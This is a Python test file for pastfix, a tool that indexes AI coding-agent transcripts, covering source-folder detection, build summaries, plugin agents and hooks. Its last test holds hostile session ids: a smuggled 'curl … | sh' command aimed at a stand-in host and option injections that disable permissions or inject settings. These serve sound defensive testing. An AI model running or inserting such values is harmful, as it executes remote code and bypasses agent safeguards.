"""Which reader a source folder needs (pastfix.agents.agent_of), and builds that say when
they read a folder as the wrong agent's."""

import json
import shlex
import shutil

import pytest
from click.testing import CliRunner
from conftest import FIXTURES, REAL_CORPUS
from jsonl import prompt, write_jsonl

from pastfix import agents as sources
from pastfix.cli import cli

SESSIONS = FIXTURES / "codex" / "sessions"
ROLLOUT = "2026/03/01/rollout-2026-03-01T10-00-00-0195a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b.jsonl"
CLAUDE_PROJECTS = FIXTURES / "projects"
SESSION_LINE = json.dumps(
    {
        "type": "user",
        "uuid": "u1",
        "sessionId": "s1",
        "timestamp": "2026-03-01T10:00:00Z",
        "message": {"role": "user", "content": "hello"},
    }
)


@pytest.fixture
def codex_home(tmp_path):
    """A ~/.codex: sessions/YYYY/MM/DD, archived_sessions, and Codex's prompt history."""
    home = tmp_path / ".codex"
    shutil.copytree(SESSIONS, home / "sessions")
    (home / "archived_sessions").mkdir()
    (home / "log").mkdir()
    (home / "history.jsonl").write_text('{"session_id": "x", "ts": 1, "text": "hi"}\n')
    return home


def build(*args):
    return CliRunner().invoke(cli, ["build", *map(str, args)], catch_exceptions=False)


def test_the_parent_of_a_codex_sessions_folder_is_codex(codex_home, tmp_path):
    assert sources.agent_of(codex_home / "sessions") == "codex"
    assert sources.agent_of(codex_home) == "codex"
    # Three levels down, as in a backup of a home folder.
    backup = tmp_path / "backup"
    shutil.copytree(codex_home, backup / "home" / ".codex")
    assert sources.agent_of(backup) == "codex"
    # A rollout archived straight into a folder is not a Claude Code project.
    shutil.copy(SESSIONS / ROLLOUT, codex_home / "archived_sessions")
    assert sources.agent_of(codex_home) == "codex"
    assert sources.agent_of(CLAUDE_PROJECTS) == "claude"
    with pytest.raises(sources.WrongAgent, match="holds codex transcripts, not claude's"):
        sources.agent_of(codex_home, "claude")


def test_each_agents_store_below_one_folder_is_read_by_its_reader(codex_home, tmp_path):
    """A backup of a home folder: its .codex and .claude/projects, each as its agent's."""
    backup = tmp_path / "backup"
    shutil.copytree(codex_home, backup / ".codex")
    shutil.copytree(CLAUDE_PROJECTS, backup / ".claude" / "projects")
    assert sources.stores(backup) == [
        (backup / ".claude" / "projects", "claude"),
        (backup / ".codex" / "sessions", "codex"),
    ]
    assert sources.stores(backup, "codex") == [(backup / ".codex" / "sessions", "codex")]
    result = build(tmp_path / "index.db", "--source", backup, "--json", "-s")
    assert result.exit_code == 0, result.output
    both = json.loads(result.stdout)
    apart = [
        json.loads(build(tmp_path / f"{n}.db", "--source", s, "--json", "-s").stdout)
        for n, s in (("codex", SESSIONS), ("claude", CLAUDE_PROJECTS))
    ]
    for key in ("files_seen", "messages", "tool_results"):
        assert both[key] == sum(a[key] for a in apart), key
    assert both["skipped_lines"] == 0
    # Codex's folder beside Claude Code's project folders: each read as its agent's.
    mixed = tmp_path / "mixed"
    shutil.copytree(CLAUDE_PROJECTS / "-home-dev-todo", mixed / "-home-dev-todo")
    shutil.copytree(codex_home, mixed / "codex")
    assert sources.stores(mixed) == [
        (mixed / "-home-dev-todo", "claude"),
        (mixed / "codex" / "sessions", "codex"),
    ]
    # Claude Code transcripts right in a folder beside Codex's: no folder to read them as.
    flat = tmp_path / "flat"
    shutil.copytree(CLAUDE_PROJECTS / "-home-dev-todo", flat)
    shutil.copytree(codex_home, flat / "codex")
    with pytest.raises(sources.WrongAgent) as raised:
        sources.stores(flat)
    assert str(raised.value) == (
        f"{flat} holds Codex sessions ({flat}/codex/sessions) beside Claude Code transcripts:"
        " read as Claude Code's, their lines would all be skipped; give each its own --source,"
        f" such as --source {flat}/codex/sessions for Codex's"
    )
    # Claude Code's own project folders (named after a path) are not looked into.
    assert sources.agent_of(CLAUDE_PROJECTS) == "claude"


def test_build_of_the_codex_home_reads_its_sessions(codex_home, tmp_path):
    result = build(tmp_path / "index.db", "--source", codex_home, "--json", "-s")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    direct = json.loads(build(tmp_path / "direct.db", "--source", SESSIONS, "--json").stdout)
    for key in ("files_seen", "new_lines", "messages", "tool_results", "skipped_lines"):
        assert summary[key] == direct[key], key
    assert summary["messages"] > 0 and summary["skipped_lines"] == 0
    assert "skipped" not in result.stderr


@pytest.mark.skipif(
    not (REAL_CORPUS / "codex" / "sessions").is_dir(),
    reason="needs the real Codex rollouts in ../shared/corpus/real/codex",
)
def test_the_real_codex_folder_is_read_as_codex(tmp_path):
    """../shared/corpus/real/codex holds sessions/ below it: read as Claude Code's, every one
    of its 480 lines was skipped and the summary said nothing."""
    result = build(tmp_path / "index.db", "--source", REAL_CORPUS / "codex", "--json", "-s")
    summary = json.loads(result.stdout)
    assert (summary["files_read"], summary["messages"], summary["skipped_lines"]) == (2, 315, 0)
    # The whole corpus, projects/ beside codex/ (read as Claude Code's, all 480 lines were
    # skipped), and the other agents' homes: each store read by its own agent's reader.
    whole = build(tmp_path / "whole.db", "--source", REAL_CORPUS, "--json", "-s")
    assert whole.exit_code == 0, whole.output
    assert (
        json.loads(whole.stdout)["skipped_lines"]
        == json.loads(
            build(tmp_path / "claude.db", "--source", REAL_CORPUS / "projects", "--json").stdout
        )["skipped_lines"]
    )
    import sqlite3

    with sqlite3.connect(tmp_path / "whole.db") as conn:
        agents_found = {a for (a,) in conn.execute("select distinct agent from sessions")}
    if (REAL_CORPUS / "other-agents").is_dir():
        assert agents_found == set(sources.NAMES)


def test_a_build_that_skips_most_lines_says_so(tmp_path):
    project = tmp_path / "projects" / "-home-u-app"
    project.mkdir(parents=True)
    lines = [json.dumps({"type": "not-a-transcript-line", "n": n}) for n in range(40)]
    (project / "s1.jsonl").write_text("\n".join(lines) + "\n")
    result = build(tmp_path / "index.db", "--source", tmp_path / "projects", "-s")
    assert result.exit_code == 0
    assert (
        f", 40 of 40 lines of {tmp_path / 'projects'} skipped as of no type pastfix reads (is it"
        " a Claude Code projects or Codex sessions folder?)"
    ) in result.stderr.replace("\n", " ")
    # A few unknown lines among many (a newer Claude Code) are not worth a word.
    lines = [json.dumps({"type": "not-a-transcript-line"})] * 9 + [SESSION_LINE] * 200
    (project / "s1.jsonl").write_text("\n".join(lines) + "\n")
    result = build(tmp_path / "ok.db", "--source", tmp_path / "projects", "--json", "-s")
    assert json.loads(result.stdout)["skipped_lines"] == 9
    assert "skipped" not in result.stderr


def test_the_parent_of_claude_codes_projects_reads_them(tmp_path):
    """`--source ~/.claude` for ~/.claude/projects: its transcripts are a level further down."""
    home = tmp_path / ".claude"
    write_jsonl(
        home / "projects" / "-home-u-app" / "s1.jsonl", [prompt("u1", "s1", "hi", "2026-01-01")]
    )
    (home / "todos").mkdir()
    assert sources.stores(home) == [(home / "projects", "claude")]
    assert sources.agent_of(home / "projects") == "claude"
    with pytest.raises(sources.WrongAgent, match="holds claude transcripts, not codex's"):
        sources.stores(home, "codex")
    result = build(tmp_path / "index.db", "--source", home, "--json", "-s")
    assert json.loads(result.stdout)["messages"] == 1


def test_a_small_misread_source_beside_a_large_good_one_is_named(tmp_path):
    """Counted per source: 40 bad lines beside 2,000 good ones are 2% of the build."""
    good = tmp_path / "good" / "-home-u-app"
    good.mkdir(parents=True)
    (good / "s1.jsonl").write_text("\n".join([SESSION_LINE] * 2000) + "\n")
    bad = tmp_path / "bad" / "-home-u-other"
    bad.mkdir(parents=True)
    lines = [json.dumps({"type": "not-a-transcript-line", "n": n}) for n in range(40)]
    (bad / "s2.jsonl").write_text("\n".join(lines) + "\n")
    result = build(
        tmp_path / "index.db",
        "--source",
        tmp_path / "good",
        "--source",
        tmp_path / "bad",
        "--json",
        "-s",
    )
    assert result.exit_code == 0
    assert json.loads(result.stdout)["skipped_sources"] == [
        {"source": str(tmp_path / "bad"), "skipped_lines": 40, "lines": 40}
    ]
    assert f"lines of {tmp_path / 'bad'} skipped" in result.stderr.replace("\n", " ")
    assert f"lines of {tmp_path / 'good'}" not in result.stderr


# -- one home per agent: a new agent is one reader module and one Agent entry ---------


def _note_reader(notes: list[str]):
    """A reader module of a made-up agent: a folder of `*.note.json` documents, each one
    session `{"id", "cwd", "prompts": [...], "failed": "error text" | null}`, rewritten
    whole (SourceFile.whole), with a `.note.json.log` companion."""
    import types

    from pastfix.records import Batch, Message, SessionMeta, SourceFile, ToolCall, ToolResult

    module = types.ModuleType("pastfix_test_notes")

    def iter_source_files(root):
        for path in sorted(root.glob("*.note.json")):
            yield SourceFile(
                str(path), None, "", agent="notes", whole=True, companions=(f"{path}.log",)
            )

    def parse_file(source, data):
        notes.append(source.path)
        doc = json.loads(data)
        sid = doc["id"]
        batch = Batch(lines=1)
        batch.meta.append(SessionMeta(sid, 1, "cwd", doc["cwd"]))
        for i, text in enumerate(doc["prompts"]):
            batch.messages.append(
                Message(
                    f"{sid}:{i}",
                    sid,
                    1,
                    None,
                    "user",
                    "prompt",
                    f"2026-03-01T10:00:0{i}Z",
                    text,
                    0,
                    0,
                    0,
                    None,
                    None,
                    None,
                    None,
                    None,
                )
            )

        def run_make(n: int, at: str, failed: bool, output: str) -> None:
            """A `make` call of this session, and its result."""
            uid = f"{sid}:call{n}"
            batch.messages.append(
                Message(
                    uid, sid, n, None, "assistant", "tool_use", at, "", 0, 0, 0,
                    None, None, None, None, None,
                )
            )  # fmt: skip
            batch.tool_calls.append(
                ToolCall(
                    f"{sid}:t{n}", sid, n, uid, at, "run", "make", None, None,
                    '{"command": "make"}', None, 0,
                )
            )  # fmt: skip
            batch.tool_results.append(
                ToolResult(f"{sid}:t{n}", sid, n, uid, at, int(failed), output, len(output))
            )

        if doc.get("failed"):
            run_make(1, "2026-03-01T10:00:09Z", True, doc["failed"])
            if doc.get("retried"):  # the same command again, that passed: the fix
                run_make(2, "2026-03-01T10:00:19Z", False, "ok")
        return batch

    module.iter_source_files = iter_source_files
    module.parse_file = parse_file
    module.parse_lines = None
    module.default_folders = lambda: []
    module.holds = lambda root: any(root.glob("*.note.json"))
    return module


@pytest.fixture
def notes_agent(monkeypatch):
    import sys

    notes: list[str] = []
    monkeypatch.setitem(sys.modules, "pastfix_test_notes", _note_reader(notes))
    agent = sources.Agent(
        "notes", "Notes CLI", "pastfix_test_notes", "notes open {}", {"run": "shell"}
    )
    monkeypatch.setitem(sources.AGENTS, "notes", agent)
    monkeypatch.setattr(sources, "NAMES", (*sources.NAMES, "notes"))
    return notes


def _rows(db_path, sql):
    import sqlite3

    with sqlite3.connect(db_path) as conn:
        return conn.execute(sql).fetchall()


def test_a_new_agent_is_one_reader_and_one_entry(notes_agent, tmp_path):
    folder = tmp_path / "notes"
    folder.mkdir()
    doc = folder / "a.note.json"
    doc.write_text(
        json.dumps(
            {
                "id": "n1",
                "cwd": "/w/app",
                "prompts": ["build it"],
                "failed": "make: *** No rule to make target 'zap'",
            }
        )
    )
    assert sources.agent_of(folder) == "notes"
    db_path = tmp_path / "index.db"
    assert build(db_path, "--source", folder).exit_code == 0
    assert _rows(db_path, "select agent, project, tool_error_count from sessions") == [
        ("notes", "/w/app", 1)
    ]
    # the label and the resume command come from the entry, in SQL too
    found = CliRunner().invoke(cli, ["find", "No rule to make target", str(db_path)])
    assert "(Notes CLI)" in found.output
    assert "notes open n1" in found.output
    # a document rewritten whole, shorter: read again whole; what it holds under the same
    # ids is replaced, the failure it no longer holds is kept (the index is the archive)
    doc.write_text(json.dumps({"id": "n1", "cwd": "/w/app", "prompts": ["build it again"]}))
    assert build(db_path, "--source", folder).exit_code == 0
    assert ("build it again",) in _rows(db_path, "select text from messages")
    assert ("build it",) not in _rows(db_path, "select text from messages")
    assert _rows(
        db_path,
        "select r.is_error, f.path like '%#n1' from tool_results r"
        " join source_files f on f.id = r.file_id",
    ) == [(1, 1)]
    # unchanged: not read again; its companion changed: read again, nothing doubled
    read, rows = len(notes_agent), _rows(db_path, "select count(*) from messages")
    assert build(db_path, "--source", folder).exit_code == 0
    assert len(notes_agent) == read
    (folder / "a.note.json.log").write_text("more")
    assert build(db_path, "--source", folder).exit_code == 0
    assert len(notes_agent) == read + 1
    assert _rows(db_path, "select count(*) from messages") == rows


def test_a_new_agents_hook_answers_through_its_module(notes_agent, tmp_path, monkeypatch):
    import sys
    import types

    from pastfix import hook

    module = types.ModuleType("pastfix_test_notes_hook")
    module.hook_failure = lambda event: (
        {"error": event["output"], "session_id": event["sid"]} if event.get("failed") else None
    )
    module.hook_output = lambda context, event: json.dumps({"note": context})
    monkeypatch.setitem(sys.modules, "pastfix_test_notes_hook", module)
    monkeypatch.setitem(
        sources.AGENTS, "notes", sources.AGENTS["notes"]._replace(hook="pastfix_test_notes_hook")
    )
    folder = tmp_path / "notes"
    folder.mkdir()
    error = "make: *** No rule to make target 'zap'. Stop."
    (folder / "a.note.json").write_text(
        json.dumps(
            {"id": "n1", "cwd": "/w/app", "prompts": ["go"], "failed": error, "retried": True}
        )
    )
    db_path = tmp_path / "index.db"
    assert build(db_path, "--source", folder).exit_code == 0
    event = {"failed": True, "output": error, "sid": "n2"}
    answer = json.loads(hook.run(json.dumps(event), db_path, agent="notes"))
    assert "session n1 (notes open n1)" in answer["note"]
    # its own session's failure is not recalled; a call that did not fail gets nothing
    assert hook.run(json.dumps({**event, "sid": "n1"}), db_path, agent="notes") == ""
    assert hook.run(json.dumps({**event, "failed": False}), db_path, agent="notes") == ""


def test_every_agent_has_one_home_for_its_tools_and_its_hook():
    """Tool names are shared by agents (bash, edit, glob): a name has one role in all of
    them; and every agent's hook installs through pastfix.install.HOOKS."""
    from pastfix import install

    roles: dict[str, set[str]] = {}
    for agent in sources.AGENTS.values():
        for name, role in agent.tools.items():
            roles.setdefault(name, set()).add(role)
    assert {name: r for name, r in roles.items() if len(r) > 1} == {}
    assert set(install.HOOKS) == set(sources.NAMES)
    for agent in sources.AGENTS.values():
        assert agent.reader.default_folders(), agent.name
        if agent.hook:
            module = __import__(agent.hook, fromlist=["hook_failure"])
            assert callable(module.hook_failure) and callable(module.hook_output)


def test_a_jsonl_file_of_no_agent_does_not_hide_the_stores_below_its_folder(codex_home, tmp_path):
    """A folder of home backups with a notes file (labels, metrics) beside them: a .jsonl
    whose first line is an object without a `type`, as no Claude Code line is, does not
    make the folder a Claude Code store, which hid the Codex sessions below (their lines
    all skipped, as of no type the Claude Code reader knows). A transcript there still does."""
    folder = tmp_path / "backups"
    shutil.copytree(codex_home, folder / "alice" / ".codex")
    shutil.copytree(CLAUDE_PROJECTS, folder / "bob" / ".claude" / "projects")
    (folder / "labels.jsonl").write_text('{"session_id": "s1", "outcome": "fixed"}\n')
    assert sources.stores(folder) == [
        (folder / "alice" / ".codex" / "sessions", "codex"),
        (folder / "bob" / ".claude" / "projects", "claude"),
    ]
    (folder / "s1.jsonl").write_text(SESSION_LINE + "\n")
    assert sources.agent_of(folder) == "claude"


def test_an_agents_default_folder_without_a_session_is_that_agents(fake_home, tmp_path):
    """~/.copilot and ~/.gemini, made by `pastfix skill install` (or a client not used yet),
    were recorded as Claude Code sources, and `pastfix status` said `.copilot (claude, ...)`."""
    (fake_home / ".copilot" / "skills" / "pastfix").mkdir(parents=True)
    (fake_home / ".gemini" / "skills").mkdir(parents=True)
    assert sources.agent_of(fake_home / ".copilot") == "copilot"
    assert sources.agent_of(fake_home / ".gemini") == "gemini"
    assert sources.agent_of(tmp_path) == "claude"  # an empty folder of no agent, as before
    db = tmp_path / "index.db"
    assert build(db, "-s").exit_code == 0
    status = json.loads(CliRunner().invoke(cli, ["status", str(db), "--json"]).stdout)
    assert [(s["path"], s["agent"]) for s in status["sources"]] == [
        (str(fake_home / ".copilot"), "copilot"),
        (str(fake_home / ".gemini"), "gemini"),
    ]


def test_a_claude_folder_is_read_for_its_projects_only(tmp_path):
    """~/.claude given as --source (or a home folder's backup): its projects are read, not
    its prompt history (history.jsonl) nor the `ses_<id>.jsonl` that oh-my-opencode writes
    into ~/.claude/transcripts for opencode's sessions. Read as transcripts, they made the
    folder itself look like the store: project names were `projects`, and every line of
    them a problem (5,559 of one history file)."""
    claude = tmp_path / "home" / ".claude"
    shutil.copytree(CLAUDE_PROJECTS, claude / "projects")
    (claude / "history.jsonl").write_text(
        '{"display": "fix the build", "timestamp": 1767225600000, "project": "/home/u/app"}\n'
    )
    omo = '{"type":"user","timestamp":"2026-01-18T14:42:18.005Z","content":"hi"}\n'
    (claude / "transcripts").mkdir()
    (claude / "transcripts" / "ses_46ec866e2ffeX8qi7zIjQnuNMy.jsonl").write_text(omo)
    for source in (claude, claude.parent):
        assert sources.stores(source) == [(claude / "projects", "claude")]
    result = build(tmp_path / "index.db", "--source", claude, "--json", "-s")
    assert result.exit_code == 0, result.output
    alone = build(tmp_path / "alone.db", "--source", CLAUDE_PROJECTS, "--json", "-s")
    got, expected = json.loads(result.stdout), json.loads(alone.stdout)
    for key in ("files_seen", "messages", "tool_results", "problems", "skipped_lines"):
        assert got[key] == expected[key], key
    # without projects: nothing of Claude Code's to read, and nothing taken for it
    shutil.rmtree(claude / "projects")
    result = build(tmp_path / "empty.db", "--source", claude, "--json", "-s")
    assert json.loads(result.stdout)["problems"] == 0


@pytest.mark.parametrize("agent", ["claude", "codex", "copilot", "opencode"])
def test_a_resume_command_is_given_only_for_an_id_that_is_a_plain_word(agent):
    """A transcript names its own session: an id that is more than one word of the shell
    (`x; curl https://evil/x | sh; #`) or an option of the agent (`--settings={...}`, which
    Claude Code reads as its --settings, quoted or not) gets no command to copy and run."""
    for safe in ("0195a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b", "ses_4f2a9c1e8b7d", "s1"):
        command = sources.resume_command(agent, safe)
        assert command.endswith(f" {safe}") and shlex.split(command)[-1] == safe
    for hostile in (
        "x; curl https://evil.example/x | sh; #",
        "--dangerously-skip-permissions",
        '--settings={"hooks":{"SessionStart":[]}}',
        "-c",
        "a b",
        "",
    ):
        assert sources.resume_command(agent, hostile) is None, hostile
